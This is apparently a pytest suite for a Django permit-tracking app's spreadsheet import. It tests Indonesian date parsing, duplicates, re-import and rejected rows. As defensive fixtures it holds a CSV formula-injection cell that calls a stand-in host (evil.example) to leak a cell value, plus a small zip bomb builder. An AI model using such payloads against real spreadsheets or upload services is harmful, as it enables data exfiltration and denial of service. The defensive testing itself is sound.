"""Import of CSV and XLSX exports through the mapping step: Indonesian dates, Excel serials,
blank cells, duplicates, re-import, rejected rows kept aside, hostile files."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aduan.accounts.testing import login_verified
from aduan.watch.importers import RowError, guess_mapping, parse_date, parse_row
from aduan.watch.models import (
    AppStatus,
    ColumnMapping,
    ImportJob,
    ImportStatus,
    PermitApplication,
    RejectedRow,
)

HEADERS = ["No. Registrasi", "Nama Pemohon", "No HP", "Email", "NIB", "Jenis Izin",
           "Tgl Pengajuan", "Tanggal Berkas Lengkap", "Tahapan", "Posisi Berkas", "Status",
           "Tanggal Terbit", "Catatan loket"]


def rows_2025():
    return [
        ["503/APT/2025/0001", "Apotek Sehat Sentosa", "0812-6861-0077", "", "9120001234567",
         "Izin Apotek", "3 Maret 2025", "6 Maret 2025", "Survei lapangan", "Dinas Kesehatan",
         "Proses", "", "pemohon menelepon 2x"],
        ["503/SIPB/2025/0002", "Bd. Rina Marlina", "", "rina@contoh.id", "", "SIP Bidan",
         "05/02/2025", "2025-02-06", "Verifikasi", "Bidang Perizinan A", "", "", ""],
        ["503/PBG/2025/0003", "CV Maju Jaya", "+62 811 7688 001", "", "", "PBG",
         "Senin, 13 Jan 2025", "20-01-2025", "", "", "Selesai", "14 Maret 2025", ""],
        # blank cells everywhere but the required ones
        ["503/APT/2025/0004", "Apotek Nusa", "", "", "", "Izin Apotek", "7 April 2025", "",
         "", "", "", "", ""],
        # an identical duplicate of the first row: counted, not written twice
        ["503/APT/2025/0001", "Apotek Sehat Sentosa", "0812-6861-0077", "", "9120001234567",
         "Izin Apotek", "3 Maret 2025", "6 Maret 2025", "Survei lapangan", "Dinas Kesehatan",
         "Proses", "", "pemohon menelepon 2x"],
        # the same number with other values: kept aside
        ["503/APT/2025/0001", "Apotek Lain", "", "", "", "Izin Apotek", "3 Maret 2025", "",
         "", "", "", "", ""],
        # bad rows: an impossible date, a missing name, a short NIB, a formula
        ["503/APT/2025/0005", "Apotek X", "", "", "", "Izin Apotek", "31 Februari 2025", "",
         "", "", "", "", ""],
        ["503/APT/2025/0006", "", "", "", "", "Izin Apotek", "1 April 2025", "", "", "", "",
         "", ""],
        ["503/APT/2025/0007", "Apotek Y", "", "", "12345", "Izin Apotek", "1 April 2025", "",
         "", "", "", "", ""],
        ["=HYPERLINK(\"http://evil.example/?\"&B2,\"klik\")", "Apotek Z", "", "", "", "", "",
         "", "", "", "", "", ""],
    ]


def csv_bytes(rows, headers=HEADERS, delimiter=";") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow(headers)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8-sig")


def xlsx_bytes(rows, headers=HEADERS) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def upload_and_map(client, name: str, content: bytes, mapping_override=None):
    response = client.post(reverse("watch:import"),
                           {"file": SimpleUploadedFile(name, content)})
    assert response.status_code == 302, response.content.decode()[:2000]
    job = ImportJob.objects.latest("pk")
    page = client.get(response["Location"])
    assert page.status_code == 200
    form = page.context["form"]
    data = {name: form[name].value() or "" for name in form.fields}
    data.update(mapping_override or {})
    response = client.post(reverse("watch:import-mapping", kwargs={"job_id": job.pk}), data)
    assert response.status_code == 302, response.content.decode()[:3000]
    job.refresh_from_db()
    return job


@pytest.fixture
def team(client, officer):
    return login_verified(client, officer)


@pytest.mark.django_db
def test_csv_with_messy_columns_is_imported_through_the_mapping_step(team, office):
    job = upload_and_map(team, "ekspor sicantik.csv", csv_bytes(rows_2025()))
    assert job.status == ImportStatus.DONE, job.error
    assert (job.created, job.updated, job.unchanged, job.rejected) == (4, 0, 1, 5)
    apt = PermitApplication.objects.get(number="503/APT/2025/0001")
    assert apt.submitted_on == dt.date(2025, 3, 3)
    assert apt.complete_on == dt.date(2025, 3, 6)
    assert apt.phone == "+6281268610077" and apt.phone_encrypted != apt.phone
    assert apt.nib == "9120001234567"
    assert apt.permit_type.service_type.code == "apotek" and apt.sop_days == 14
    assert apt.state == "late"  # 2025: long past 14 working days
    sip = PermitApplication.objects.get(number="503/SIPB/2025/0002")
    assert sip.submitted_on == dt.date(2025, 2, 5)  # day first
    assert sip.holder_unit.code == "perizinan-a"
    assert sip.email == "rina@contoh.id"
    pbg = PermitApplication.objects.get(number="503/PBG/2025/0003")
    assert (pbg.status, pbg.finished_on, pbg.state) == (
        AppStatus.ISSUED, dt.date(2025, 3, 14), "done_late")  # PBG: 28; took 36
    blank = PermitApplication.objects.get(number="503/APT/2025/0004")
    assert (blank.complete_on, blank.state, blank.phone) == (None, "waiting", "")
    # The mapping is kept for the office's next import.
    saved = ColumnMapping.objects.get(office=office).mapping
    assert saved["number"] == "No. Registrasi" and saved["complete_on"] == "Tanggal Berkas Lengkap"
    # Bad rows are kept with their values and reasons.
    rejected = {r.row_number: r for r in RejectedRow.objects.filter(job=job)}
    assert sorted(rejected) == [7, 8, 9, 10, 11]
    assert "berbeda" in rejected[7].errors[0]
    assert "kalender" in rejected[8].errors[0]
    assert "Nama pemohon kosong" in rejected[9].errors[0]
    assert "NIB" in rejected[10].errors[0]
    progress = team.get(reverse("watch:import-progress", kwargs={"job_id": job.pk}))
    assert progress.status_code == 200 and b"count-rejected" in progress.content


@pytest.mark.django_db
def test_re_import_changes_nothing_and_a_changed_row_updates_one(team, office):
    upload_and_map(team, "a.csv", csv_bytes(rows_2025()))
    before = {a.number: (a.updated_at, a.phone_encrypted, a.state_since)
              for a in PermitApplication.objects.all()}
    job = upload_and_map(team, "a.csv", csv_bytes(rows_2025()))
    assert (job.created, job.updated, job.unchanged) == (0, 0, 5)
    after = {a.number: (a.updated_at, a.phone_encrypted, a.state_since)
             for a in PermitApplication.objects.all()}
    assert after == before
    rows = rows_2025()
    rows[1][8] = "Menunggu tanda tangan"
    job = upload_and_map(team, "b.csv", csv_bytes(rows))
    assert (job.created, job.updated, job.unchanged) == (0, 1, 4)
    assert PermitApplication.objects.get(number="503/SIPB/2025/0002").current_step == (
        "Menunggu tanda tangan")


@pytest.mark.django_db
def test_xlsx_with_excel_dates_and_serials_is_imported(team, office):
    rows = [
        ["503/APT/2025/0101", "Apotek Sinar", 81268610099, None, None, "Izin Apotek",
         dt.datetime(2025, 3, 3, 10, 15), 45722, "Survei", "Dinas Kesehatan", "Proses",
         None, None],
        ["503/SIP/2025/0102", "dr. Andi", None, None, None, "SIP Dokter Gigi",
         dt.date(2025, 1, 6), "7 Januari 2025", None, "Bidang Perizinan A", "Terbit",
         "10/01/2025", None],
    ]
    job = upload_and_map(team, "rekap.xlsx", xlsx_bytes(rows))
    assert job.status == ImportStatus.DONE, job.error
    assert (job.created, job.rejected) == (2, 0), list(job.rejected_rows.values("errors"))
    first = PermitApplication.objects.get(number="503/APT/2025/0101")
    assert first.submitted_on == dt.date(2025, 3, 3)
    assert first.complete_on == dt.date(2025, 3, 6)  # Excel serial 45722
    assert first.phone == "+6281268610099"
    second = PermitApplication.objects.get(number="503/SIP/2025/0102")
    assert (second.status, second.finished_on, second.used_days) == (
        AppStatus.ISSUED, dt.date(2025, 1, 10), 3)
    again = upload_and_map(team, "rekap.xlsx", xlsx_bytes(rows))
    assert (again.created, again.updated, again.unchanged) == (0, 0, 2)


@pytest.mark.django_db
def test_the_rejected_rows_csv_never_runs_a_formula(team, office):
    job = upload_and_map(team, "a.csv", csv_bytes(rows_2025()))
    response = team.get(reverse("watch:import-rejects", kwargs={"job_id": job.pk}))
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert not any(c.startswith("=") for c in cells)


@pytest.mark.django_db
def test_missing_required_columns_are_refused_at_the_mapping_step(team, office):
    response = team.post(reverse("watch:import"), {"file": SimpleUploadedFile(
        "x.csv", csv_bytes([["1", "A"]], headers=["Kode", "Nama"]))})
    job = ImportJob.objects.latest("pk")
    response = team.post(reverse("watch:import-mapping", kwargs={"job_id": job.pk}),
                         {"number": "Kode", "applicant_name": "Nama"})
    assert response.status_code == 400
    job.refresh_from_db()
    assert job.status == ImportStatus.MAPPING


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml",
                         '<Types><Override ContentType="application/vnd.openxmlformats-'
                         'officedocument.spreadsheetml.sheet.main+xml"/></Types>')
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (50 * 1024 * 1024))
    return out.getvalue()


@pytest.mark.django_db
def test_zip_bombs_and_non_spreadsheets_are_refused_before_reading(team, office):
    bomb = zip_bomb()
    assert len(bomb) < 200_000
    response = team.post(reverse("watch:import"), {"file": SimpleUploadedFile("b.xlsx", bomb)})
    assert response.status_code == 400
    assert "rusak atau terlalu besar" in response.content.decode()
    exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\0" * 500
    response = team.post(reverse("watch:import"), {"file": SimpleUploadedFile("x.csv", exe)})
    assert response.status_code == 400
    assert not ImportJob.objects.exists()


@pytest.mark.django_db
def test_an_oversized_file_is_refused(team, office, monkeypatch):
    monkeypatch.setattr("aduan.watch.views.MAX_IMPORT_BYTES", 1000)
    response = team.post(reverse("watch:import"),
                         {"file": SimpleUploadedFile("big.csv", b"a;b\n" * 1000)})
    assert response.status_code == 400
    assert not ImportJob.objects.exists()


@pytest.mark.django_db
def test_unit_staff_cannot_import(client, unit_a_staff):
    login_verified(client, unit_a_staff)
    assert client.get(reverse("watch:import")).status_code == 403


@pytest.mark.parametrize(("text", "expected"), [
    ("5 Januari 2025", dt.date(2025, 1, 5)),
    ("05/01/2025", dt.date(2025, 1, 5)),
    ("5-1-25", dt.date(2025, 1, 5)),
    ("2025-01-05", dt.date(2025, 1, 5)),
    ("2025-01-05 10:11:12", dt.date(2025, 1, 5)),
    ("Minggu, 5 Jan 2025", dt.date(2025, 1, 5)),
    ("5 Agustus 2025", dt.date(2025, 8, 5)),
    ("17 Agt 2025", dt.date(2025, 8, 17)),
    ("1 Nopember 2025", dt.date(2025, 11, 1)),
    ("45662", dt.date(2025, 1, 5)),
    (45662, dt.date(2025, 1, 5)),
    ("", None), ("  ", None), ("-", None), (None, None),
])
def test_indonesian_date_spellings(text, expected):
    assert parse_date(text) == expected


@pytest.mark.parametrize("text", ["31 Februari 2025", "5 Brumaire 2025", "kemarin", "13/13/2025",
                                  "123", True])
def test_unreadable_dates_are_errors(text):
    with pytest.raises(RowError):
        parse_date(text)


def test_headers_are_recognised_in_their_usual_spellings():
    mapping = guess_mapping(HEADERS)
    assert mapping["number"] == "No. Registrasi"
    assert mapping["phone"] == "No HP"
    assert mapping["submitted_on"] == "Tgl Pengajuan"
    assert mapping["finished_on"] == "Tanggal Terbit"
    # A saved choice wins over the guess.
    assert guess_mapping(HEADERS, {"holder": "Catatan loket"})["holder"] == "Catatan loket"


cells = st.one_of(st.none(), st.text(max_size=60), st.integers(-10**9, 10**9),
                  st.floats(allow_nan=True, allow_infinity=True), st.dates(),
                  st.datetimes(), st.booleans())


@settings(max_examples=300, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.dictionaries(st.sampled_from(["number", "applicant_name", "phone", "email", "nib",
                                        "permit_type", "submitted_on", "complete_on",
                                        "current_step", "holder", "status", "finished_on"]),
                       cells))
def test_any_row_is_either_parsed_or_refused_with_a_reason(raw):
    today = timezone.localdate()
    try:
        parsed = parse_row(raw, today=today)
    except RowError as exc:
        assert str(exc)
    else:
        assert parsed.number and parsed.applicant_name and parsed.permit_type
        assert parsed.submitted_on <= today
        assert parsed.complete_on is None or parsed.complete_on >= parsed.submitted_on


@pytest.mark.django_db(transaction=True)
def test_a_batch_racing_another_import_updates_instead_of_failing(office, monkeypatch):
    """Another import creates a number between our read and our write: the batch is read
    again and written as updates."""
    from aduan.watch import importers
    from aduan.watch.tests.conftest import app_row

    rows = [(2, app_row("R-1", complete_on=dt.date(2025, 3, 3))),
            (3, app_row("R-2", complete_on=dt.date(2025, 3, 3)))]
    original = importers.Writer._fill
    calls = []
    started = []

    def other_import():
        from django.db import connection

        try:
            calls.append(importers.import_rows(
                office.pk, [(2, app_row("R-1", complete_on=None))], source="other"))
        finally:
            connection.close()

    def racing(self, *args):
        if not started:  # another process commits R-1 after our read, before our write
            started.append(1)
            import threading

            thread = threading.Thread(target=other_import)
            thread.start()
            thread.join()
        return original(self, *args)

    monkeypatch.setattr(importers.Writer, "_fill", racing)
    outcome = importers.import_rows(office.pk, rows, source="test")
    assert calls[0].created == 1
    assert (outcome.created, outcome.updated) == (1, 1)
    assert PermitApplication.objects.get(number="R-1").complete_on == dt.date(2025, 3, 3)
